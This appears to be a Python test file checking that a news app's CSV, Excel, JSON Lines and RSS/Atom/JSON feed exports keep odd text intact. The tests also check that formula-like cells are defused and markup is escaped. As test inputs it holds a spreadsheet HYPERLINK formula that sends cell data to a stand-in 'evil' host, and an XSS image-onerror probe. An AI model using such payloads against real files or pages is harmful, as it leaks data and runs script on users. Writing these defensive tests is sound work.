"""Odd values in the forms of exports: nothing is calculated, nothing breaks a file."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import feedparser
import openpyxl
import pytest
from lxml import etree
from openpyxl.utils.escape import unescape

from newsdesk.answers.export.feeds import Entry, Feed
from newsdesk.answers.export.formats.base import Kept
from newsdesk.answers.export.formats.cells import HEADINGS
from newsdesk.answers.export.formats.delimited import Csv, defused
from newsdesk.answers.export.formats.feed_forms import FORMS, atom, rss
from newsdesk.answers.export.formats.lines import JsonLines
from newsdesk.answers.export.formats.workbook import MOST_UNITS, Workbook
from pipelines.storage.documents import article_document, decode, encode
from pipelines.storage.queries import Page, Position
from tests.support.samples import MORNING, full_sample

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example.cn/?"&A1,"看")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    " =1",
    "\u3000＝1",
    "＋86",
    "\ufeff=1",
]
ODD = [
    'quote " comma , line',
    "上一行\n下一行",
    "回车\r在此",
    "emoji 👩‍👩‍👧 和 𠮷",
    "no character \ufffe\uffff",
    "\x01\x1b[31m",
    "'already",
    "_x0041_",
    "<b>&amp;</b> ]]>",
    "日本語 ไทย العربية",
]


def page_of(titles: list[str], **changes: Any) -> Page:
    page = []
    for number, title in enumerate(titles):
        article = full_sample(number, **{"title": title, "body": f"{title}\n正文", **changes})
        document = decode(encode({**article_document(article), "revision": 1}))
        page.append((Position(at=MORNING - timedelta(minutes=number), id=article.id), document))
    return page


def rows_of_csv(path: Path) -> list[dict[str, str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_is_calculated(text: str) -> None:
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("text", ["芯片出口", "a=b", "1-2", "", "'quoted", "（=1）"])
def test_other_cells_stay(text: str) -> None:
    assert defused(text) == text


def test_odd_texts_in_csv(tmp_path: Path) -> None:
    writer = Csv(tmp_path / "a.csv", Kept())
    writer.write(page_of([*ODD, *FORMULAS]))
    writer.sync()
    writer.finish()
    rows = rows_of_csv(tmp_path / "a.csv")
    assert [row["title"] for row in rows] == [*ODD, *(f"'{text}" for text in FORMULAS)]
    assert rows[0]["published_at (Beijing)"] == "2026-03-02 09:30:00"
    assert rows[0]["authors"] == "林小舟; 何田"
    assert rows[0]["comment_count"] == "12"
    assert tuple(rows[0]) == HEADINGS


def test_odd_texts_in_xlsx(tmp_path: Path) -> None:
    writer = Workbook(tmp_path / "a.xlsx", Kept())
    long = "长" * (MOST_UNITS - 1) + "𠮷尾"
    writer.write(page_of([*ODD, *FORMULAS]))
    writer.write(page_of([long]))
    writer.sync()
    remark = writer.finish()
    assert remark is not None
    assert remark.startswith("2 texts are longer")
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["articles"]
    headings = [cell.value for cell in sheet[1]]
    assert tuple(headings) == HEADINGS
    titles = list(sheet.iter_rows(min_row=2))
    place = headings.index("title")
    shown = [row[place] for row in titles]
    assert {cell.data_type for cell in shown} == {"s"}
    replaced = [
        text.replace("\ufffe\uffff", "\ufffd\ufffd").replace("\x01\x1b", "\ufffd\ufffd")
        for text in [*ODD, *FORMULAS]
    ]
    assert [unescape(str(cell.value)) for cell in shown[:-1]] == replaced
    assert str(shown[-1].value).endswith("长…")
    assert len(str(shown[-1].value)) == MOST_UNITS
    moment = titles[0][headings.index("published_at (Beijing)")].value
    assert moment == (MORNING + timedelta(hours=8)).replace(tzinfo=None)
    assert titles[0][headings.index("comment_count")].value == 12
    assert [path.name for path in tmp_path.iterdir()] == ["a.xlsx"]


def test_odd_texts_in_jsonl(tmp_path: Path) -> None:
    page = page_of([*ODD, *FORMULAS])
    writer = JsonLines(tmp_path / "a.jsonl", Kept())
    writer.write(page)
    writer.sync()
    writer.finish()
    *lines, last = (tmp_path / "a.jsonl").read_text(encoding="utf-8").split("\n")[:-1]
    read = [json.loads(line) for line in lines]
    assert [each["title"] for each in read] == [*ODD, *FORMULAS]
    assert read[0]["published_at"] == page[0][1]["published_at"].isoformat()
    assert json.loads(last) == {"_export": {"state": "complete", "articles": len(page)}}


def test_more_articles_than_a_sheet_has_rows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("newsdesk.answers.export.formats.workbook.MOST_ROWS", 4)
    writer = Workbook(tmp_path / "a.xlsx", Kept())
    writer.write(page_of([f"第{number}条" for number in range(9)]))
    writer.sync()
    writer.finish()
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == ["articles", "articles 2", "articles 3"]
    assert [sheet.max_row for sheet in book] == [5, 5, 2]
    assert book["articles 2"]["D2"].value == "第4条"


@pytest.mark.parametrize("form", ["rss", "atom", "json"])
def test_odd_texts_in_feeds(form: str) -> None:
    titles = [*ODD, *FORMULAS]
    entries = [
        Entry(
            id=f"newsdesk:article/a:{number}",
            title=title,
            url='https://news.example.cn/?a=1&b="<>',
            published=MORNING,
            at=MORNING + timedelta(hours=number),
            text=title,
            tags=["集成电路"],
        )
        for number, title in enumerate(titles)
    ]
    feed = Feed(id="newsdesk:feed", title="<题>", about="&", home="about:blank", entries=entries)
    data = FORMS[form](feed)
    if form == "json":
        found = json.loads(data)
        assert [item["title"] for item in found["items"]] == titles
        assert found["version"] == "https://jsonfeed.org/version/1.1"
        return
    read = feedparser.parse(data)
    assert not read.bozo, read.bozo_exception
    assert len(read.entries) == len(titles)
    assert read.entries[9].title == titles[9]
    assert read.entries[0].link == 'https://news.example.cn/?a=1&b="<>'
    assert read.entries[0].published_parsed[:5] == (2026, 3, 2, 1, 30)
    assert read.entries[0].tags[0].term == "集成电路"


def test_a_text_is_no_markup_in_a_feed() -> None:
    text = "5 < 6 & <img src=x onerror=alert(1)>\n第二段"
    entry = Entry(
        id="newsdesk:article/a:1", title=text, url=None, published=MORNING, at=MORNING, text=text
    )
    feed = Feed(id="newsdesk:feed", title="t", about="a", home="about:blank", entries=[entry])
    shown = etree.fromstring(rss(feed)).findtext(".//item/description")
    assert shown == "5 &lt; 6 &amp; &lt;img src=x onerror=alert(1)&gt;<br>\n第二段"
    assert feedparser.parse(atom(feed)).entries[0].summary_detail["type"] == "text/plain"
    assert etree.fromstring(rss(feed)).find(".//item/link") is None


def test_the_same_articles_make_the_same_feed() -> None:
    empty = Feed(id="newsdesk:feed", title="t", about="a", home="about:blank", entries=[])
    for form in FORMS.values():
        assert form(empty) == form(empty)
    assert not feedparser.parse(FORMS["atom"](empty)).bozo
